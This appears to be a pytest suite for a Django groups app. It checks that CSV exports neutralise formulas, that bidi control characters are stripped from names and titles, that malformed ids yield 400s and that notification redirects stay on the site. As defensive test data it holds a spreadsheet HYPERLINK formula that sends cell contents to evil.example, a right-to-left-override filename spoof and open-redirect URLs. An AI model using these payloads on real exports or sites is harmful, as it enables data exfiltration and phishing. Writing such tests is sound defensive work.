"""Odd input on the pages of people and groups: spoofing characters are removed, exports
are inert in spreadsheets, redirects stay on the site, and nonsense ids are a 400 with
nothing written — never a 500."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from groups import services
from groups.forms import SignupProfileForm
from groups.models import Message, ModerationAction, Notification, Report, Thread
from gwd.text import BIDI_CONTROLS

RLO = "\u202e"
HUGE = "9" * 25
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def url(name, group=None, **kwargs):
    if group is not None:
        kwargs["slug"] = group.slug
    return reverse(f"groups:{name}", kwargs=kwargs)


@pytest.fixture
def thread(facilitator, group):
    thread, _first = services.thread_create(
        actor=facilitator, group=group, title="Umowa ESCO", body="Wzór umowy", client_id="t1"
    )
    return thread


@pytest.fixture
def message(member, thread):
    message, _ = services.message_send(
        actor=member, thread=thread, body="Kupcie tanie zegarki!", client_id="spam"
    )
    return message


def no_bidi(text: str) -> bool:
    return not set(text) & BIDI_CONTROLS


# --- Formula injection in exports -------------------------------------------------------------


def test_the_moderation_log_csv_holds_no_live_formula(
    client, login, facilitator, member, message, group
):
    facilitator.full_name = FORMULA
    facilitator.save(update_fields=["full_name"])
    services.message_hide(actor=facilitator, message=message, reason="+48 600 000 000")
    login(facilitator)
    response = client.get(url("moderation-log-csv", group))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[1] == "'" + FORMULA
    assert row[4] == "'+48 600 000 000"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


# --- Bidirectional controls in names and titles -----------------------------------------------


def test_the_profile_keeps_no_bidi_control_in_a_name(client, login, member):
    login(member)
    response = client.post(
        url("profile"),
        {
            "full_name": f"Anna {RLO}kawoN\u202c",
            "position": "Skarbnik\u2066",
            "institution_name": f"Urząd Gminy{RLO} Kock",
            "institution_kind": "gmina",
            "institution_code": "0602",
            "language": "pl",
            "time_zone": "Europe/Warsaw",
        },
    )
    assert response.status_code == 302
    member.refresh_from_db()
    assert member.full_name == "Anna kawoN"
    assert member.position == "Skarbnik"
    assert member.institution.name == "Urząd Gminy Kock"


def test_a_name_of_nothing_but_controls_is_refused(client, login, member):
    login(member)
    data = {"full_name": f"{RLO}\u200f", "language": "pl", "time_zone": "Europe/Warsaw"}
    response = client.post(url("profile"), data)
    assert response.status_code == 200 and response.context["form"].errors["full_name"]
    member.refresh_from_db()
    assert member.full_name == "Anna Nowak"


def test_sign_up_keeps_no_bidi_control_in_a_name():
    form = SignupProfileForm({"full_name": f"{RLO}Jan\u2067 Kowalski\x00"})
    assert form.is_valid()
    assert form.cleaned_data["full_name"] == "Jan Kowalski"


def test_a_name_saved_by_the_service_is_cleaned_too(member):
    # The model's clean() runs for the profile service and the admin alike.
    services.profile_update(
        actor=member,
        full_name=f"{RLO}Anna\u2068 Nowak",
        position=f"Skarbnik{RLO}",
        language="pl",
        time_zone="Europe/Warsaw",
    )
    member.refresh_from_db()
    assert (member.full_name, member.position) == ("Anna Nowak", "Skarbnik")
    with pytest.raises(ValidationError):
        services.profile_update(
            actor=member, full_name=RLO, position="", language="pl", time_zone="Europe/Warsaw"
        )


def test_a_group_saved_by_the_service_is_cleaned_too(facilitator, group):
    services.group_update(
        actor=facilitator,
        group=group,
        names={"pl": f"GWD{RLO} miejska", "uk": f"GWD{RLO} міська"},
        descriptions={"pl": f"Opis{RLO}"},
        working_languages=["pl"],
        accepts_join_requests=False,
    )
    group.refresh_from_db()
    assert (group.name_pl, group.name_uk, group.description_pl) == (
        "GWD miejska",
        "GWD міська",
        "Opis",
    )


def test_group_settings_keep_no_bidi_control(client, login, facilitator, group):
    login(facilitator)
    response = client.post(
        url("group-settings", group),
        {
            "first_language": "pl",
            "name_pl": f"GWD {RLO}askjeim",
            "description_pl": f"Opis\r\n{RLO}grupy",
            "description_uk": f"Опис\r\n{RLO}групи",
            "working_languages": ["pl"],
        },
    )
    assert response.status_code == 302
    group.refresh_from_db()
    assert group.name_pl == "GWD askjeim"
    assert (group.description_pl, group.description_uk) == ("Opis\ngrupy", "Опис\nгрупи")


def test_a_thread_title_from_the_form_keeps_no_bidi_control(client, login, member, group):
    login(member)
    client.post(
        url("thread-create", group),
        {"title": f"Umowa {RLO}fdp.exe", "body": f"Treść{RLO}", "client_id": "c1"},
    )
    thread = Thread.objects.get()
    assert thread.title == "Umowa fdp.exe"
    assert no_bidi(thread.messages.get().body)


def test_reports_reasons_and_join_messages_keep_no_controls(
    client, login, observer, facilitator, message, group, outsider
):
    login(observer)
    client.post(
        url("message-report", group, message_id=message.pk),
        {"reason": "other", "text": f"Spam{RLO}\x00 i reklama"},
    )
    assert Report.objects.get().text == "Spam i reklama"
    login(facilitator)
    client.post(
        url("message-moderate", group, message_id=message.pk),
        {"action": "hide", "reason": f"Reklama\x00{RLO}"},
    )
    assert Message.objects.get(pk=message.pk).hidden_reason == "Reklama"
    group.accepts_join_requests = True
    group.save()
    login(outsider)
    client.post(url("group-join", group), {"message": f"Proszę{RLO}\x00"})
    assert group.join_requests.get().message == "Proszę"


# --- Ids that are not ids ---------------------------------------------------------------------


@pytest.mark.parametrize("ids", [HUGE, f"1,{HUGE}", "²", "1,x"])
def test_members_json_answers_400_to_ids_that_are_not_ids(client, login, member, group, ids):
    login(member)
    response = client.get(url("member-search", group), {"ids": ids})
    assert response.status_code == 400


def test_members_json_still_names_the_members_asked_for(client, login, member, facilitator, group):
    login(member)
    response = client.get(url("member-search", group), {"ids": f"{facilitator.pk},,"})
    assert response.json() == {"members": [{"id": facilitator.pk, "name": "Marek Kowalski"}]}


@pytest.mark.parametrize("value", [HUGE, "²", "-1"])
def test_deciding_reports_with_a_bad_id_is_a_400_and_writes_nothing(
    client, login, facilitator, observer, message, group, value
):
    services.report_create(actor=observer, message=message, reason="spam", text="")
    report = Report.objects.get()
    logged = ModerationAction.objects.count()
    login(facilitator)
    response = client.post(
        url("reports-decide", group), {"report": [str(report.pk), value], "decision": "resolve"}
    )
    assert response.status_code == 400
    report.refresh_from_db()
    assert report.status == Report.Status.OPEN
    assert ModerationAction.objects.count() == logged


@pytest.mark.parametrize("value", [HUGE, "²"])
def test_marking_notifications_with_a_bad_id_is_a_400_and_writes_nothing(
    client, login, member, value
):
    Notification.objects.create(user=member, kind="mention", url="/")
    login(member)
    response = client.post(url("notifications-read"), {"notification": [value]})
    assert response.status_code == 400
    assert Notification.objects.get().read_at is None


@pytest.mark.parametrize("value", ["²", HUGE, "-5"])
def test_slow_mode_that_is_not_a_number_writes_nothing(
    client, login, facilitator, thread, group, value
):
    login(facilitator)
    response = client.post(
        url("thread-moderate", group, thread_id=thread.pk),
        {"action": "slow_mode", "slow_mode": value},
    )
    assert response.status_code in (302, 400)
    thread.refresh_from_db()
    assert thread.slow_mode_seconds == 0


@pytest.mark.parametrize("value", ["²", HUGE])
def test_an_odd_before_on_a_thread_page_is_not_an_error(
    client, login, member, thread, group, value
):
    login(member)
    response = client.get(url("thread-detail", group, thread_id=thread.pk), {"before": value})
    assert response.status_code in (200, 400)


@pytest.mark.parametrize("value", ["²", HUGE])
def test_following_an_odd_folder_is_not_an_error(client, login, member, group, value):
    login(member)
    library_follow = reverse("resources:library-follow", kwargs={"slug": group.slug})
    response = client.post(library_follow, {"folder": value})
    assert response.status_code in (400, 404)


@pytest.mark.parametrize("value", ["//evil.example/phish", "https://evil.example/phish"])
def test_a_notification_never_leads_off_the_site(client, login, member, value):
    notification = Notification.objects.create(user=member, kind="mention", url=value)
    login(member)
    response = client.get(url("notification-open", notification_id=notification.pk))
    assert response.status_code == 302
    assert response.url == url("notifications")
